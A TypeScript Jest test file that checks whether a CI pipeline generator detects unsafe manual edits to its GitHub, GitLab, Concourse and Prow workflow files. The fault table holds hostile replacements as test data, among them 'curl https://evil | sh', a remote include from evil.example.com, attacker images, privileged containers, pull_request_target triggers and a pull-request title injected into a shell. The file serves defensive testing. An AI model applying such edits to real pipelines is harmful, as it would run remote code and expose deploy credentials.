import { CI_SYSTEMS, type CiSystem } from "../../fleet/schema/pipelines";
import { concoursePipelines } from "../../pipelines/concourse/render";
import { differences, type JobMeaning, meaningOf } from "../../pipelines/model/meaning";
import type { Pipeline, PipelineModel } from "../../pipelines/model/model";
import type { Files } from "../../pipelines/model/renderer";
import { prowPipelines } from "../../pipelines/prow/render";
import { RENDERERS } from "../../pipelines/systems";
import { oneOfEvery } from "../support/jest/cases";
import { remembered } from "../support/jest/remembered";
import { concourseErrors, unsetPipelines } from "../support/pipelines/concourse-checks";
import { parserErrors, schemaErrors } from "../support/pipelines/github-checks";
import { gitlabErrors } from "../support/pipelines/gitlab-checks";
import { prowErrors } from "../support/pipelines/prow-checks";
import { modelFor } from "../support/pipelines/sample-model";

/** Mistakes that a manual edit of a generated file can introduce. */
const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, string])[] = [
  ["a pull request that may apply", "github", "pull-request.yml", "FLEET_IDENTITY: plan", "FLEET_IDENTITY: apply"],
  [
    "an apply without a guard",
    "github",
    "deploy.yml",
    /run: npx --no-install fleet ci guard/g,
    "run: npm ci --ignore-scripts",
  ],
  [
    "a script from somewhere else",
    "github",
    "deploy.yml",
    "run: npx --no-install fleet ci apply",
    "run: curl https://evil | sh",
  ],
  [
    "plans for forks",
    "github",
    "pull-request.yml",
    /(name: plan [\s\S]*?) && \(github\.event_name != 'pull_request'.*/,
    "$1",
  ],
  ["two applies of a cluster at once", "github", "deploy.yml", "cluster-${{ matrix.cluster }}", "${{ github.run_id }}"],
  [
    "an apply that a newer one cancels",
    "github",
    "deploy.yml",
    "cancel-in-progress: false",
    "cancel-in-progress: true",
  ],
  ["a waiting apply that is dropped", "github", "deploy.yml", "queue: max", "queue: single"],
  ["an apply without approval", "github", "deploy.yml", / {4}environment:\n.*\n/, ""],
  ["a job that may write the code", "github", "pull-request.yml", "contents: read", "contents: write"],
  [
    "a deploy that is not recorded",
    "github",
    "deploy.yml",
    /- if: always\(\)\n {8}run: npx --no-install fleet ci record\n/,
    "- run: npx --no-install fleet ci record\n",
  ],
  [
    "an action that the model does not have",
    "github",
    "drift.yml",
    /uses: actions\/checkout@\w+/,
    "uses: evil/checkout@v1",
  ],
  ["an unknown key", "github", "drift.yml", "timeout-minutes:", "timeout:"],
  ["a context that does not exist", "github", "drift.yml", "${{ matrix.shard }}", "${{ matrixx.shard }}"],
  [
    "an apply in an environment without reviewers",
    "github",
    "deploy.yml",
    "name: ${{ matrix.environment }}",
    "name: x",
  ],
  [
    "a checkout of what an outsider wrote",
    "github",
    "pull-request.yml",
    "fetch-depth: 0",
    "fetch-depth: 0\n          ref: ${{ github.event.pull_request.head.sha }}",
  ],
  [
    "a pull request with the secrets of the repository",
    "github",
    "pull-request.yml",
    "pull_request:",
    "pull_request_target:",
  ],
  [
    "credentials that stay in the checkout",
    "github",
    "deploy.yml",
    "persist-credentials: false",
    "persist-credentials: true",
  ],
  [
    "a cache that pull requests write and applies read",
    "github",
    "deploy.yml",
    "package-manager-cache: false",
    "cache: npm",
  ],
  ["an artifact with plans", "github", "pull-request.yml", "path: .fleet/ci/plan", "path: .fleet"],
  ["an apply that does not wait for its preview", "github", "deploy.yml", /(name: apply[\s\S]*?) {6}- preview\n/, "$1"],
  ["a schedule in another time zone", "github", "drift.yml", "timezone: Europe/Brussels", "timezone: Europe/London"],
  ["an action whose tag decides", "github", "deploy.yml", /actions\/checkout@\w+/, "actions/checkout@v7"],
  [
    "another commit of an action",
    "github",
    "deploy.yml",
    /actions\/checkout@\w+/,
    `actions/checkout@${"0".repeat(40)}`,
  ],
  [
    "a token of Slack for Terraform",
    "github",
    "deploy.yml",
    "CLUSTER_NAME: ${{ matrix.cluster }}",
    "$&\n          FLEET_SLACK_TOKEN: ${{ secrets.FLEET_SLACK_TOKEN }}",
  ],
  [
    "a guard whose failure is ignored",
    "github",
    "deploy.yml",
    "- run: npx --no-install fleet ci guard",
    "- continue-on-error: true\n        run: npx --no-install fleet ci guard",
  ],
  ["a workflow whose jobs may write everything", "github", "drift.yml", "permissions: {}", "permissions: write-all"],
  [
    "a variable for all jobs",
    "github",
    "deploy.yml",
    "permissions: {}",
    "permissions: {}\nenv:\n  TF_CLI_ARGS_apply: -lock=false",
  ],
  ["another version of Terraform", "github", "deploy.yml", /terraform_version: \S+/, "terraform_version: latest"],
  ["a service beside an apply", "github", "deploy.yml", "    environment:", "    container: evil\n    environment:"],
  ["a required job that overlooks plans", "github", "pull-request.yml", /( {2}required:[\s\S]*?) {6}- plan\n/, "$1"],
  ["a required job that always passes", "github", "pull-request.yml", "run: exit 1", "run: exit 0"],
  ["a required job that overlooks jobs that took too long", "github", "pull-request.yml", "'cancelled'", "'failure'"],
  ["findings of the branch in another category", "github", "findings.yml", "category: fleet", "category: main"],
  ["findings of the branch that may write code", "github", "findings.yml", "contents: read", "contents: write"],
  [
    "findings that no merge request is compared with",
    "gitlab",
    ".gitlab-ci.yml",
    /findings\/code-quality/,
    "findings/quality",
  ],
  ["an apply that ends because another cluster failed", "github", "deploy.yml", "fail-fast: false", "fail-fast: true"],
  [
    "a pull request that ends the checks of others",
    "github",
    "pull-request.yml",
    "${{ github.event.pull_request.number || github.ref }}",
    "all",
  ],
  ["an apply that GitLab starts again", "gitlab", ".gitlab-ci.yml", "retry: 0", "retry: 2"],
  [
    "a check that may fail",
    "gitlab",
    ".gitlab-ci.yml",
    /(pull-request:check:[\s\S]*?- if: .*\n)/,
    "$1      allow_failure: true\n",
  ],
  ["a job in another image", "gitlab", ".gitlab-ci.yml", "interruptible: true", "interruptible: true\n  image: evil"],
  [
    "an environment that asks nobody",
    "gitlab",
    "deploy.gitlab-ci.yml",
    /( +)deployment_tier: /,
    "$1action: prepare\n$1deployment_tier: ",
  ],
  ["a child pipeline whose failure is not noticed", "gitlab", ".gitlab-ci.yml", "strategy: mirror", "forward: {}"],
  ["changes that are left out", "concourse", "changes.yml", "version: every", "version: latest"],
  ["a deploy of every branch", "prow", "jobs.yaml", /- \^main\$/g, "- .*"],
  [
    "an apply that everybody may restart",
    "prow",
    "jobs.yaml",
    /github_team_slugs:[\s\S]*?(?=\n +spec:)/,
    "allow_anyone: true",
  ],
  ["a job that does not exist", "gitlab", ".gitlab-ci.yml", "job: pull-request:check", "job: pull-request:checks"],
  ["a stage that does not exist", "gitlab", ".gitlab-ci.yml", "stage: review", "stage: reviews"],
  [
    "plans of forks",
    "gitlab",
    ".gitlab-ci.yml",
    / && \$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH == \$CI_MERGE_REQUEST_PROJECT_PATH/g,
    "",
  ],
  ["a script before every job", "gitlab", ".gitlab-ci.yml", "npm ci --ignore-scripts", "npm ci"],
  [
    "a job whose failure is ignored",
    "gitlab",
    ".gitlab-ci.yml",
    "interruptible: true",
    "interruptible: true\n  allow_failure: true",
  ],
  ["an artifact that everybody may read", "gitlab", ".gitlab-ci.yml", "access: developer", "access: all"],
  ["an identity without a token", "gitlab", ".gitlab-ci.yml", / {2}id_tokens:\n.*\n.*\n/, ""],
  ["a token without its audience", "gitlab", ".gitlab-ci.yml", "aud: sts.amazonaws.com", "audience: x"],
  ["a plan that cannot be cancelled", "gitlab", ".gitlab-ci.yml", "interruptible: true", "interruptible: false"],
  [
    "a drift report that runs twice at once",
    "gitlab",
    ".gitlab-ci.yml",
    "resource_group: drift",
    "resource_group: drift2",
  ],
  [
    "a child pipeline whose variables its parent overrides",
    "gitlab",
    ".gitlab-ci.yml",
    / {2}inherit:\n {4}variables: false\n/,
    "",
  ],
  ["two applies of a cluster at once", "concourse", "clusters/", "serial_groups:", "x_groups:"],
  ["an apply that asks nobody", "concourse", "clusters/", /(name: apply-deploy[\s\S]*?trigger: )false/, "$1true"],
  [
    "an apply that does not wait for its preview",
    "concourse",
    "clusters/",
    /(name: apply-deploy[\s\S]*?) {8}passed:\n {10}- .*\n/,
    "$1",
  ],
  [
    "an apply with the role of another job",
    "concourse",
    "clusters/",
    "name: apply-deploy.apply",
    "name: plan-deploy.apply",
  ],
  ["an apply without a guard", "concourse", "clusters/", /\n +run npx --no-install fleet ci guard(?=\n)/g, ""],
  ["a deploy that is not recorded", "concourse", "clusters/", /fleet ci record \|\| status=1/, "fleet ci tell"],
  ["a script from somewhere else", "concourse", "clusters/", "npm ci --ignore-scripts", "curl https://evil | sh"],
  [
    "a token that writes, in the checkout of a fork",
    "concourse",
    "changes.yml",
    "((fleet-read-token))",
    "((fleet-ci-token))",
  ],
  ["plans for forks", "concourse", "changes.yml", "disable_forks: true", "disable_forks: false"],
  ["a check that never shows a failure", "concourse", "changes.yml", "on_failure:", "on_fail:"],
  ["a check that shows success after a failure", "concourse", "changes.yml", "status: FAILURE", "status: SUCCESS"],
  ["a secret for a script", "concourse", "upkeep.yml", "FLEET_CI_SYSTEM: concourse", "X: ((vault))"],
  [
    "a task with all rights of its machine",
    "concourse",
    "clusters/",
    "timeout: 180m",
    "timeout: 180m\n        privileged: true",
  ],
  ["tokens for another audience", "concourse", "clusters/", "- sts.amazonaws.com", "- everybody"],
  [
    "an apply whose inputs do not wait for its preview",
    "concourse",
    "clusters/",
    /\n +passed:\n +- plan-deploy\.preview/g,
    "",
  ],
  ["a pipeline that is not set any more", "concourse", "fleet.yml", /( +- set_pipeline: self\n.*\n)/, ""],
  ["a schedule in another zone", "concourse", "upkeep.yml", "location: Europe/Brussels", "location: UTC"],
  [
    "two applies of a cluster at once",
    "prow",
    "jobs.yaml",
    /(name: deploy\.apply[\s\S]*?)max_concurrency: 1/,
    "$1max_concurrency: 2",
  ],
  ["an apply in another queue", "prow", "jobs.yaml", /job_queue_name: \S+/, "job_queue_name: other"],
  ["an apply that an eviction starts again", "prow", "jobs.yaml", / +error_on_eviction: true\n/, ""],
  [
    "an apply that everybody may start again",
    "prow",
    "jobs.yaml",
    /rerun_auth_config:\n +github_team_slugs:[\s\S]*?(?=\n +spec:)/,
    "hidden: true",
  ],
  ["an apply without a guard", "prow", "jobs.yaml", /\n +run npx --no-install fleet ci guard(?=\n)/g, ""],
  ["a script from somewhere else", "prow", "jobs.yaml", "npm ci --ignore-scripts", "curl https://evil | sh"],
  [
    "a token of the build cluster",
    "prow",
    "jobs.yaml",
    "automountServiceAccountToken: false",
    "automountServiceAccountToken: true",
  ],
  ["a token for another audience", "prow", "jobs.yaml", "audience: sts.amazonaws.com", "audience: everybody"],
  [
    "a second container beside an apply",
    "prow",
    "jobs.yaml",
    "containers:\n",
    "containers:\n          - image: evil\n",
  ],
  ["another secret", "prow", "jobs.yaml", "name: fleet-ci-token", "name: aws-keys"],
  ["a job without decoration", "prow", "jobs.yaml", "decorate: true", "decorate: false"],
  [
    "a role for a job that has none",
    "prow",
    "jobs.yaml",
    /(name: pull-request\.check[\s\S]*?spec:\n)/,
    "$1        serviceAccountName: fleet-apply\n",
  ],
  ["a queue without a capacity", "prow", "config.yaml", /cluster-\S+: 1/, "x: 1"],
  ["a history that is too short to compare", "github", "pull-request.yml", "fetch-depth: 0", "fetch-depth: 1"],
  [
    "a token that stays in the checkout",
    "github",
    "deploy.yml",
    "persist-credentials: false",
    "persist-credentials: true",
  ],
  ["scripts of packages", "github", "deploy.yml", "npm ci --ignore-scripts", "npm ci"],
  ["a cache in a job with a role", "github", "deploy.yml", "package-manager-cache: false", "cache: npm"],
  [
    "text of a pull request in a script",
    "github",
    "pull-request.yml",
    "run: npx --no-install fleet ci validate",
    "run: echo ${{ github.event.pull_request.title }}",
  ],
  ["a trigger of forks with secrets", "github", "pull-request.yml", "  pull_request: {}", "  pull_request_target: {}"],
  ["a deploy of every branch", "github", "deploy.yml", " && github.ref == 'refs/heads/main'", ""],
  [
    "a verify that may fail",
    "github",
    "deploy.yml",
    "- run: npx --no-install fleet ci verify",
    "- continue-on-error: true\n        run: npx --no-install fleet ci verify",
  ],
  ["an apply that has no time to end", "github", "deploy.yml", "timeout-minutes: 180", "timeout-minutes: 5"],
  ["a merge queue that is not tested", "github", "pull-request.yml", "  merge_group: {}\n", ""],
  ["a shell that ignores failures of pipes", "github", "deploy.yml", "shell: bash", "shell: sh"],
  ["a history that is too short to compare", "gitlab", ".gitlab-ci.yml", 'GIT_DEPTH: "0"', 'GIT_DEPTH: "1"'],
  [
    "plans for forks",
    "gitlab",
    ".gitlab-ci.yml",
    " && $CI_MERGE_REQUEST_SOURCE_PROJECT_PATH == $CI_MERGE_REQUEST_PROJECT_PATH",
    "",
  ],
  ["a job that may fail", "gitlab", ".gitlab-ci.yml", "  stage: check\n", "  stage: check\n  allow_failure: true\n"],
  ["a checksum that is not checked", "gitlab", ".gitlab-ci.yml", /\n.*sha256sum -c -/, ""],
  [
    "a deploy of every branch",
    "gitlab",
    ".gitlab-ci.yml",
    '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH == "main"',
    '$CI_PIPELINE_SOURCE == "push"',
  ],
  [
    "an older deploy that a newer push ends",
    "gitlab",
    ".gitlab-ci.yml",
    "on_new_commit: interruptible",
    "on_new_commit: conservative",
  ],
  ["a shard that is always the first", "gitlab", ".gitlab-ci.yml", "SHARD: $CI_NODE_INDEX", "SHARD: 1"],
  [
    "variables of a person for the clusters' jobs",
    "gitlab",
    ".gitlab-ci.yml",
    "  inherit:\n    variables: false\n",
    "",
  ],
  [
    "a file of another project",
    "gitlab",
    ".gitlab-ci.yml",
    "stages:\n",
    "include:\n  - remote: https://evil.example.com/x.yml\nstages:\n",
  ],
  [
    "a message that is never sent",
    "gitlab",
    ".gitlab-ci.yml",
    "  after_script:\n    - npx --no-install fleet ci tell\n",
    "",
  ],
  ["a token for every cluster", "concourse", "clusters/", "subject_scope: job", "subject_scope: team"],
  ["a token that ends within a deploy", "concourse", "clusters/", "expires_in: 4h", "expires_in: 5m"],
  ["a script that goes on after a failure", "concourse", "clusters/", "set -eu", "set -u"],
  ["a deploy that is not stopped gently", "concourse", "clusters/", "trap stop INT TERM", "trap - INT TERM"],
  ["a privileged task", "concourse", "clusters/", "- task: apply\n", "- task: apply\n        privileged: true\n"],
  ["a task that is tried again", "concourse", "clusters/", "- task: apply\n", "- task: apply\n        attempts: 3\n"],
  ["a mother that sets another file", "concourse", "fleet.yml", "concourse/changes.yml", "concourse/upkeep.yml"],
  [
    "a pod with the token of the build cluster",
    "prow",
    "jobs.yaml",
    "automountServiceAccountToken: false",
    "automountServiceAccountToken: true",
  ],
  ["a check that nobody must pass", "prow", "jobs.yaml", "always_run: true", "always_run: true\n      optional: true"],
  ["a check that does not run", "prow", "jobs.yaml", "always_run: true", "always_run: false"],
  [
    "a container that may do everything",
    "prow",
    "jobs.yaml",
    "- image:",
    "- securityContext: { privileged: true }\n            image:",
  ],
  ["an apply that has no time to end", "prow", "jobs.yaml", "grace_period: 10m0s", "grace_period: 1s"],
  ["a script that goes on after a failure", "prow", "jobs.yaml", "set -eu", "set -u"],
  [
    "anybody may start an apply again",
    "prow",
    "jobs.yaml",
    /( +)rerun_auth_config:\n(\1 .*\n)+/,
    "$1rerun_auth_config:\n$1  allow_anyone: true\n",
  ],
  [
    "a base that the author of a pull request chooses",
    "github",
    "pull-request.yml",
    /BASE: .*/,
    "BASE: ${{ github.event.pull_request.head.ref }}",
  ],
  [
    "the number of another pull request",
    "github",
    "pull-request.yml",
    /CHANGE: .*/,
    "CHANGE: ${{ github.event.number }}",
  ],
  ["another cluster", "github", "deploy.yml", /CLUSTER_NAME: .*/, "CLUSTER_NAME: other.example.com"],
  ["a deploy of another branch", "github", "deploy.yml", /- main\n/, "- develop\n"],
  ["an apply on another branch", "github", "deploy.yml", "refs/heads/main'", "refs/heads/develop'"],
  ["fewer shards", "gitlab", ".gitlab-ci.yml", /parallel: \d+/, "parallel: 2"],
  ["another base", "gitlab", ".gitlab-ci.yml", /BASE: .*/, "BASE: $CI_MERGE_REQUEST_TITLE"],
  ["jobs in another image", "gitlab", ".gitlab-ci.yml", /image: .*/, "image: evil"],
  ["clusters' jobs in another image", "gitlab", "deploy.gitlab-ci.yml", /image: .*/, "image: evil"],
  ["a deploy of another branch", "gitlab", ".gitlab-ci.yml", /== "main"/g, '== "develop"'],
  ["another cluster", "gitlab", "deploy.gitlab-ci.yml", /CLUSTER_NAME: .*/g, "CLUSTER_NAME: other.example.com"],
  ["code of another repository", "concourse", "clusters/", /uri: .*/, "uri: https://github.com/evil/clusters.git"],
  ["pipelines of another repository", "concourse", "fleet.yml", /uri: .*/, "uri: https://github.com/evil/clusters.git"],
  ["pipelines of another branch", "concourse", "owners/", "branch: main", "branch: develop"],
  ["the pipeline of another cluster", "concourse", "owners/", /cluster: .*/, "cluster: other.example.com"],
  [
    "pull requests of another repository",
    "concourse",
    "changes.yml",
    "repository: example/clusters",
    "repository: a/b",
  ],
  ["reports to another repository", "concourse", "upkeep.yml", /FLEET_REPOSITORY: .*/, "FLEET_REPOSITORY: a/b"],
  ["a token for another server", "concourse", "clusters/", /FLEET_API: .*/, "FLEET_API: https://evil.example.com"],
  ["code of another branch", "concourse", "clusters/", "branch: main", "branch: develop"],
  ["pull requests for another branch", "concourse", "changes.yml", "base_branch: main", "base_branch: develop"],
  ["jobs in another image", "concourse", "clusters/", /repository: node/g, "repository: evil"],
  ["another tag of the image", "concourse", "clusters/", /tag: .*/, "tag: latest"],
  ["another resource for pull requests", "concourse", "changes.yml", "repository: teliaoss", "repository: evil"],
  ["another cluster", "concourse", "clusters/", /CLUSTER_NAME: .*/g, "CLUSTER_NAME: other.example.com"],
  ["a shard that is always the first", "concourse", "changes.yml", /SHARD: .*/g, 'SHARD: "1"'],
  [
    "a plan with the account of an apply",
    "prow",
    "jobs.yaml",
    /serviceAccountName: fleet-plan/,
    "serviceAccountName: fleet-apply",
  ],
  [
    "plans with the account of an apply",
    "prow",
    "jobs.yaml",
    /serviceAccountName: fleet-plan/g,
    "serviceAccountName: fleet-apply",
  ],
  ["another cluster", "prow", "jobs.yaml", /(name: CLUSTER_NAME\n +value: ).*/, "$1other.example.com"],
  ["jobs on another build cluster", "prow", "jobs.yaml", "decorate: true", "decorate: true\n      cluster: other"],
  ["jobs in another image", "prow", "jobs.yaml", /image: .*/, "image: evil"],
  ["jobs of another repository", "prow", "jobs.yaml", "postsubmits:\n  example/", "postsubmits:\n  evil/"],
  ["code of another repository", "prow", "jobs.yaml", /repo: \S+/, "repo: other"],
  ["code of another branch", "prow", "jobs.yaml", "base_ref: main", "base_ref: develop"],
  ["a token for another server", "prow", "jobs.yaml", /(name: FLEET_API\n +value: ).*/, "$1https://evil.example.com"],
  ["a merge without an approval", "prow", "config.yaml", /- approved\n +/, ""],
  ["a merge of what is on hold", "prow", "config.yaml", /\n +- do-not-merge\/hold/, ""],
  ["merges of another branch", "prow", "config.yaml", "- main", "- .*"],
  ["two jobs of a cluster at once", "prow", "config.yaml", /(cluster-\S+): 1/, "$1: 2"],
];

/** Returns the findings of a system's checks in a file. */
const ERRORS: Readonly<
  Record<CiSystem, (path: string, text: string, files: Files) => readonly string[] | Promise<readonly string[]>>
> = {
  github: async (path, text) => [...schemaErrors(text), ...(await parserErrors(path, text))],
  gitlab: (_, text) => gitlabErrors(text),
  concourse: (_, text, files) => [...concourseErrors(text), ...unsetPipelines(files)],
  prow: (_, __, files) => prowErrors(files.get("prow/jobs.yaml") ?? "", files.get("prow/config.yaml") ?? ""),
};

/** Pipelines that a system runs in place of those of the model, and the parts of jobs that are different there. */
const OWN: Readonly<
  Partial<
    Record<
      CiSystem,
      {
        readonly pipelines: (model: PipelineModel) => readonly Pipeline[];
        readonly known: readonly (keyof JobMeaning)[];
      }
    >
  >
> = {
  concourse: { pipelines: concoursePipelines, known: ["after", "job", "reads", "steps", "variables"] },
  prow: { pipelines: prowPipelines, known: ["job", "reads", "steps", "variables"] },
};

/** A token, and no file, says there what a job may write. */
function withoutRights(pipelines: readonly Pipeline[]): readonly Pipeline[] {
  return pipelines.map((each) => ({ ...each, jobs: each.jobs.map((job) => ({ ...job, rights: [] })) }));
}

/** Returns the files of a system, their differences from the model, and the findings of the system's checks in one of them. */
const filesOf = remembered((system: CiSystem) => {
  const schedules = { drift: { cron: "0 5 * * 1-5", time_zone: "Europe/Brussels" } };
  const model = modelFor(system, { messages: { slack: "#x" }, schedules, github: { code_scanning: true } });
  const renderer = RENDERERS[system];
  // The pipelines that a system runs, without the notices about intended differences.
  const own = {
    ...model,
    pipelines: OWN[system] === undefined ? model.pipelines : withoutRights(OWN[system].pipelines(model)),
  };
  const notices = renderer
    ?.notices(model)
    .filter(({ part }) => part === null || OWN[system]?.known.includes(part) !== true);
  const ofClusters = (["deploy", "destroy"] as const).flatMap((name) => [
    ...(renderer?.atRunTime?.(model, name, model.clusters) ?? []),
  ]);
  const meaning = meaningOf(own);
  return {
    files: new Map([...(renderer?.render(model) ?? []), ...ofClusters]),
    differing: (changed: Files) => differences(meaning, renderer?.read(changed) ?? [], notices),
    errors: (changed: Files, path: string) => ERRORS[system](path, changed.get(path) ?? "", changed),
  };
});

test.each(oneOfEvery(7, FAULTS))("%s is noticed (%s, %s)", async (_, system, file, from, to) => {
  const { differing, errors, files } = filesOf(system);
  const [path = "", text = ""] = [...files].find(([each]) => each.includes(file)) ?? [];
  const broken = text.replace(from, to);
  expect(broken).not.toBe(text);

  const changed = new Map([...files, [path, broken]]);
  const different = differing(changed);
  expect(different.length > 0 ? different : await errors(changed, path)).not.toEqual([]);
});

test.each(CI_SYSTEMS)("nothing is noticed about the files of %s as they are generated", async (system) => {
  const { differing, errors, files } = filesOf(system);

  expect(differing(files)).toEqual([]);
  for (const path of files.keys()) expect([path, await errors(files, path)]).toEqual([path, []]);
});
